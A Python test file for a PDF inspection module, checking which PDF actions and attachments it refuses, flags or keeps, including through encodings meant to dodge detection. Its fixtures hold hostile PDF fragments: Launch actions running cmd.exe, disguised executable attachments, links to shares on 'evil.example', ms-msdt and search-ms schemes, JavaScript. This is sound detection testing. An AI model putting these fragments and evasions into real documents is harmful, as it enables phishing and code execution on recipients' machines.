"""Each row of the table, as a PDF does it, wherever it stands and however it is spelled."""

from __future__ import annotations

import io
import re
from collections.abc import Callable

import pikepdf
import pytest

from leadintake.documents.inspection.findings import Flag, Refused
from tests.documents.inspection.pdfs import flags, packed, pdf, pdf_stream, zipped

PROGRAM = r"starts a program or carries one inside\. .* print it to a new PDF"
FETCHES = r"fetches content from another computer\. .* print it to a new PDF"
LINK = r"a link that starts a program or opens a file of another computer\. Please remove the link"
PAGE = r"carries a web page or a script inside\. .* print it to a new PDF"
LETTER = pdf_stream(b"Dear Sirs", b"/Type /EmbeddedFile")

Objects = tuple[bytes, ...]
"""The object that does it, and others from number 5 on."""


def _attached(name: bytes, content: bytes = LETTER) -> Objects:
    return b"<< /Type /Filespec /F %b /EF << /F 5 0 R >> >>" % name, content


REFUSED: dict[str, tuple[str, Objects]] = {
    "starts a program": (PROGRAM, (b"<< /S /Launch /F (cmd.exe) >>",)),
    "starts a program, as Windows has it": (PROGRAM, (b"<< /S /Launch /Win << /F (cmd) /P (/c calc) >> >>",)),
    "opens a document by its program": (PROGRAM, (b"<< /S /Launch /F << /UF (a.docx) >> >>",)),
    "carries a program by name": (PROGRAM, _attached(b"(resume.pdf.exe)")),
    "carries a program by name with a blank": (PROGRAM, _attached(b"(resume.SCR . )")),
    "carries a program by an escaped name": (PROGRAM, _attached(b"(resume\\056\\152s)")),
    "carries a program by a UTF-16 name": (PROGRAM, _attached(b"<FEFF0061002E006C006E006B>")),
    "carries macros": (PROGRAM, _attached(b"(letter.docm)")),
    "carries a program for Windows": (PROGRAM, _attached(b"(a.txt)", pdf_stream(b"MZ\x90\0"))),
    "carries a program for Linux": (PROGRAM, _attached(b"(a.txt)", pdf_stream(b"\x7fELF\2"))),
    "carries a script for Linux": (PROGRAM, _attached(b"(a.txt)", pdf_stream(b"#!/bin/sh"))),
    "carries a program written as text": (
        PROGRAM,
        _attached(b"(a.txt)", pdf_stream(b"4d5a90>", b"/Filter /ASCIIHexDecode")),
    ),
    "carries a page": (PAGE, _attached(b"(resume.html)")),
    "carries a page by another name": (PAGE, _attached(b"(a.txt)", pdf_stream(b" <!DOCTYPE html><script>"))),
    "a link to a file of another machine": (LINK, (b"<< /S /URI /URI (file://evil.example/a.doc) >>",)),
    "a link to a share": (LINK, (b"<< /S /URI /URI (\\\\\\\\evil.example\\\\a\\\\b) >>",)),
    "a link to a share in hexadecimal": (LINK, (b"<< /S /URI /URI <5C5C6576696C5C61> >>",)),
    "a link to a share in UTF-16": (LINK, (b"<< /S /URI /URI <FEFF005C005C0061005C0062> >>",)),
    "a link to a search": (LINK, (b"<< /S /URI /URI (search-ms:query=a&crumb=location:\\\\\\\\a\\\\b) >>",)),
    "a link to diagnostics": (LINK, (b"<< /S /URI /URI (ms-msdt:/id PCWDiagnostic) >>",)),
    "a link to a script": (LINK, (b"<< /S /URI /URI (JaVaScript:alert\\(1\\)) >>",)),
    "a link to a command of an office suite": (LINK, (b"<< /S /URI /URI (vnd.sun.star.script:a.b) >>",)),
    "a base of all links on another machine": (LINK, (b"<< /URI << /Base (file://evil.example/a/) >> >>",)),
    "opens a document of another machine": (LINK, (b"<< /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) /D 0 >>",)),
    "opens a document of another machine by its name in a PDF": (
        LINK,
        (b"<< /S /GoToE /F << /Type /Filespec /F (/evil.example/share/a.pdf) >> >>",),
    ),
    "opens a document elsewhere, for a Mac": (LINK, (b"<< /S /GoToR /F << /Mac (//evil/a.pdf) >> >>",)),
    "a thread in another machine's file": (LINK, (b"<< /S /Thread /F (//evil.example/a.pdf) /D 0 >>",)),
    "data imported from another machine": (FETCHES, (b"<< /S /ImportData /F (\\\\\\\\evil\\\\a.fdf) >>",)),
    "a form sent to another machine": (FETCHES, (b"<< /S /SubmitForm /F << /F (file://evil/a) >> >>",)),
    "a page of another machine's file": (FETCHES, (b"<< /Ref << /F (//evil/a.pdf) >> >>",)),
    "a film on another machine": (f"{FETCHES}|put together", (b"<< /S /MCD /D (\\\\\\\\evil\\\\a.avi) >>",)),
}
MARKED: dict[str, tuple[set[Flag], Objects]] = {
    "JavaScript": ({Flag.JAVASCRIPT}, (b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",)),
    "JavaScript in a stream": (
        {Flag.JAVASCRIPT},
        (b"<< /S /JavaScript /JS 5 0 R >>", pdf_stream(b"app.alert(1)")),
    ),
    "JavaScript on opening": ({Flag.JAVASCRIPT}, (b"<< /OpenAction << /S /JavaScript /JS (a) >> >>",)),
    "JavaScript in a form": ({Flag.JAVASCRIPT}, (b"<< /AA << /K << /S /JavaScript /JS (a) >> >> >>",)),
    "a form of XML": ({Flag.JAVASCRIPT}, (b"<< /XFA [(a) 5 0 R] >>", pdf_stream(b"<xdp/>"))),
    "opens a page of the web": (
        {Flag.REACHES_OUT},
        (b"<< /OpenAction << /S /URI /URI (https://example.com) >> >>",),
    ),
    "opens a page of the web later": (
        {Flag.REACHES_OUT},
        (b"<< /OpenAction << /S /GoTo /D (top) /Next [<< /S /URI /URI (https://example.com) >>] >> >>",),
    ),
    "opens a page of the web with a page": (
        {Flag.REACHES_OUT},
        (b"<< /AA << /O << /S /URI /URI (https://example.com) >> >> >>",),
    ),
    "sends a form": (
        {Flag.REACHES_OUT},
        (b"<< /S /SubmitForm /F << /FS /URL /F (https://example.com) >> >>",),
    ),
    "imports data": ({Flag.REACHES_OUT}, (b"<< /S /ImportData /F (data.fdf) >>",)),
    "a page of a file of the web": (
        {Flag.REACHES_OUT},
        (b"<< /Ref << /F << /FS /URL /F (http://example.com/a) >> >> >>",),
    ),
    "a film": ({Flag.MEDIA}, (b"<< /Subtype /Movie /Movie << /F 5 0 R >> >>", b"<< /F (a.avi) >>")),
    "a sound": ({Flag.MEDIA}, (b"<< /S /Sound /Sound 5 0 R >>", pdf_stream(b"a"))),
    "a scene": ({Flag.MEDIA}, (b"<< /Subtype /3D >>",)),
    "rich media": ({Flag.MEDIA}, (b"<< /Subtype /RichMedia >>",)),
    "a screen": ({Flag.MEDIA}, (b"<< /Subtype /Screen >>",)),
    "a rendition": ({Flag.MEDIA}, (b"<< /S /Rendition /OP 0 >>",)),
    "an invoice as data": (
        {Flag.EMBEDDED},
        _attached(b"(factur-x.xml)", pdf_stream(b"<?xml version='1.0'?><a/>")),
    ),
    "an archive": ({Flag.EMBEDDED}, _attached(b"(papers.zip)", pdf_stream(zipped({"a.txt": b"a"})))),
    "a letter that is damaged": (
        {Flag.EMBEDDED},
        _attached(b"(a.txt)", pdf_stream(b"a", b"/Filter /FlateDecode")),
    ),
    "a link by an unusual scheme": (
        {Flag.UNUSUAL_LINK},
        (b"<< /S /URI /URI (zoommtg://example.com/join) >>",),
    ),
}
KEPT: dict[str, Objects] = {
    "a link to the web": (b"<< /S /URI /URI (https://example.com/jane?a=b#c) >>",),
    "a link to the web without its scheme": (b"<< /S /URI /URI (www.example.com) >>",),
    "a link to a mailbox": (b"<< /S /URI /URI (mailto:jane@example.com?subject=Hello%20you) >>",),
    "a link to a telephone": (b"<< /S /URI /URI (tel:+1-555-0100) >>",),
    "a link to a message": (b"<< /S /URI /URI (sms:+15550100) >>",),
    "a link to a server for files": (b"<< /S /URI /URI (ftp://example.com/a) >>",),
    "a link to the writer's own disk": (b"<< /S /URI /URI (file:///C:/Users/Jane/cv.docx) >>",),
    "a base of all links in the web": (b"<< /URI << /Base (https://example.com/) >> >>",),
    "a link that does nothing": (b"<< /S /URI /URI (javascript:void\\(0\\);) >>",),
    "a link to nothing": (b"<< /S /URI /URI (about:blank) >>",),
    "a document beside it": (b"<< /S /GoToR /F (references.pdf) /D [0 /Fit] >>",),
    "a document on the writer's own disk": (
        b"<< /S /GoToR /F << /F (/C/Users/Jane/a.pdf) /UF (/C/a.pdf) >> >>",
    ),
    "a document on the writer's own Mac": (b"<< /S /GoToR /F (/Users/jane/a.pdf) >>",),
    "a document in an attached one": (b"<< /S /GoToE /T << /R /C /N (a.pdf) >> >>",),
    "opening at a page": (b"<< /OpenAction [3 0 R /XYZ null null 0] >>",),
    "opening at a page by an action": (b"<< /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>",),
    "opening at a page by its name": (b"<< /OpenAction 5 0 R >>", b"<< /S /GoTo /D (top) >>"),
    "opening in a loop": (b"<< /OpenAction 5 0 R >>", b"<< /S /GoTo /D (top) /Next [5 0 R] >>"),
    "printing": (b"<< /OpenAction << /S /Named /N /Print >> >>",),
    "no attachments": (b"<< /Names << /EmbeddedFiles << /Names [] >> /JavaScript << /Names [] >> >> >>",),
    "attachments that are none": (b"<< /Names << /EmbeddedFiles null >> /EF << >> >>",),
    "a tree of attachments that holds itself": (b"<< /EmbeddedFiles 5 0 R >>", b"<< /Kids [5 0 R] >>"),
    "an empty script": (b"<< /S /JavaScript /JS () >>",),
    "a script that is none": (b"<< /S /JavaScript /JS null >>",),
    "a script by reference that is none": (b"<< /S /JavaScript /JS 5 0 R >>", b"null"),
    "an empty form of XML": (b"<< /Fields [] /XFA [] >>",),
    "actions that are none": (b"<< /AA << >> /OpenAction null >>",),
    "a picture that is called JS": (b"<< /XObject << /JS 5 0 R >> >>", pdf_stream(b"", b"/Subtype /Image")),
    "fonts and layers with such names": (
        b"<< /Font << /Movie 5 0 R >> /Launch << >> /Title /Sound >>",
        b"<< >>",
    ),
    "numbers of annotations": (b"<< /Type /Annot /Subtype /Link /F 4 /Border [0 0 0] >>",),
    "numbers of annotations elsewhere": (b"<< /Type /Annot /Subtype /Link /F 5 0 R >>", b"4"),
    "names that only begin so": (
        b"<< /JSON 1 /Launcher (a) /URIs (file://evil/) /EFFECT 1 /EncryptMetadata true >>",
    ),
}


def _plain(objects: Objects) -> bytes:
    return pdf(*objects)


def _in_object_stream(objects: Objects) -> bytes:
    return pdf(packed(objects[0], first_number=40), *objects[1:])


def _where_a_jump_leads(objects: Objects) -> bytes:
    return pdf(pdf_stream(b"stream 4 0 obj " + objects[0] + b" endobj"), *objects[1:])


def _escaped(objects: Objects) -> bytes:
    def escape(name: re.Match[bytes]) -> bytes:
        return b"/" + b"".join(b"#%02x" % letter for letter in name[1])

    return pdf(re.sub(rb"(?<=[ \[])/([A-Za-z0-9]+)", escape, objects[0]), *objects[1:])


def _twice(objects: Objects) -> bytes:
    """Each key has another value before it and one behind it."""
    doubled = re.sub(
        rb"(?<= )/(S|URI|JS|F|Subtype) (/\w+|\((?:[^()\\]|\\.)*\))", rb"/\1 /X /\1 \2 /\1 null", objects[0]
    )
    return pdf(doubled, *objects[1:])


def _behind_references(objects: Objects) -> bytes:
    others = list(objects)

    def move(value: re.Match[bytes]) -> bytes:
        others.append(value[2])
        others.append(b"%d 0 R" % (len(others) + 3))
        return value[1] + b"%d 0 R" % (len(others) + 3)

    # Names and strings are moved, each behind two references.
    others[0] = re.sub(
        rb"(/(?:S|Subtype|URI|JS|F|UF|Mac|Base|D) )(/\w+|\((?:[^()\\]|\\.)*\)|<[0-9A-F]+>)", move, objects[0]
    )
    return pdf(*others)


def _encrypted(objects: Objects) -> bytes:
    saved = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf(*objects, catalog=b"/Odd 4 0 R"))) as document:
        document.save(saved, encryption=pikepdf.Encryption(owner="o", user="", R=6))
    return saved.getvalue()


def _encrypted_in_object_stream(objects: Objects) -> bytes:
    saved = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf(*objects, catalog=b"/Odd 4 0 R"))) as document:
        document.save(
            saved,
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
            encryption=pikepdf.Encryption(owner="o", user="", R=3, aes=False, metadata=False),
        )
    return saved.getvalue()


WAYS = [
    _plain,
    _in_object_stream,
    _where_a_jump_leads,
    _escaped,
    _behind_references,
    _encrypted,
    _encrypted_in_object_stream,
]
ways = pytest.mark.parametrize("write", [*WAYS, _twice], ids=lambda write: write.__name__.strip("_"))
Write = Callable[[Objects], bytes]


@ways
@pytest.mark.parametrize(("sentence", "objects"), REFUSED.values(), ids=REFUSED)
def test_what_the_table_refuses_is_refused_with_the_true_reason(write: Write, sentence, objects):
    with pytest.raises(Refused, match=sentence):
        flags(write(objects))


@ways
@pytest.mark.parametrize(("warned_of", "objects"), MARKED.values(), ids=MARKED)
def test_what_the_table_warns_of_is_kept_with_that_warning(write: Write, warned_of, objects):
    assert flags(write(objects)) == warned_of


@pytest.mark.parametrize("write", WAYS, ids=lambda write: write.__name__.strip("_"))
@pytest.mark.parametrize("objects", KEPT.values(), ids=KEPT)
def test_what_the_table_keeps_is_kept_without_a_word(write: Write, objects):
    assert flags(write(objects)) == frozenset()


@pytest.mark.parametrize("name", [b"JavaScript", b"Launch", b"Rendition", b"RichMedia"])
def test_a_name_that_is_an_object_is_what_it_would_be_elsewhere(name):
    try:
        assert flags(pdf(b"/" + name)) <= {Flag.JAVASCRIPT, Flag.MEDIA} != frozenset()
    except Refused as refused:
        assert name == b"Launch" and re.search(PROGRAM, str(refused))  # noqa: PT018, PT017


def test_an_action_of_a_kind_that_cannot_be_found_is_refused():
    with pytest.raises(Refused, match="put together in an unusual way"):
        flags(pdf(b"<< /S 77 0 R /URI (https://example.com) >>"))


def test_what_leads_from_reference_to_reference_for_ever_is_read_once():
    assert flags(pdf(b"<< /S /URI /URI 5 0 R >>", b"6 0 R", b"5 0 R")) == {Flag.UNUSUAL_LINK}


def test_every_object_of_one_number_counts():
    first, second = b"<< /S /URI /URI 9 0 R >>", b"<< >>\nendobj\n9 0 obj\n(%b)"
    assert flags(pdf(first, second % b"https://example.com", second % b"mailto:a@example.com")) == frozenset()
    assert flags(pdf(first, second % b"odd:a", second % b"https://example.com")) == {Flag.UNUSUAL_LINK}
    assert flags(pdf(first, second % b"https://example.com", second % b"odd:a")) == {Flag.UNUSUAL_LINK}


@pytest.mark.parametrize("words", [b"<< /Title (/S /Launch /JS \\(x\\) /URI \\(file://evil/\\)) >>",
                                   b"<< /Title (a) % /S /Launch /JS (x)\n >>"])  # fmt: skip
@pytest.mark.parametrize("write", [_plain, _in_object_stream, _encrypted, _encrypted_in_object_stream])
def test_words_that_are_text_or_comment_do_nothing(write: Write, words):
    assert flags(write((words,))) == frozenset()


def test_what_is_missing_is_not_held_for_nothing():
    assert flags(pdf(b"<< /F (a.txt) /EF << /F 77 0 R >> >>")) == {Flag.EMBEDDED}
    assert flags(pdf(b"<< /S /URI /URI 77 0 R >>")) == {Flag.UNUSUAL_LINK}
    assert flags(pdf(b"<< /S /GoToR /F 77 0 R >>")) == {Flag.UNUSUAL_LINK}
    assert flags(pdf(b"<< /S /JavaScript /JS 77 0 R >>")) == {Flag.JAVASCRIPT}


def test_the_bytes_of_a_stream_may_be_elsewhere():
    assert flags(pdf(pdf_stream(b"", b"/Subtype /Image /F (a.jpg)"))) == frozenset()
    for web in (b"/F (http://example.com/a.jpg)", b"/F << /FS /URL /F (http://example.com/a.jpg) >>"):
        assert flags(pdf(pdf_stream(b"", b"/Subtype /Image " + web))) == {Flag.REACHES_OUT}
    for machine in (b"/F (//evil.example/a.jpg)", b"/F << /UF (//evil.example/a.jpg) >>"):
        with pytest.raises(Refused, match=FETCHES):
            flags(pdf(pdf_stream(b"", b"/Subtype /Image " + machine)))
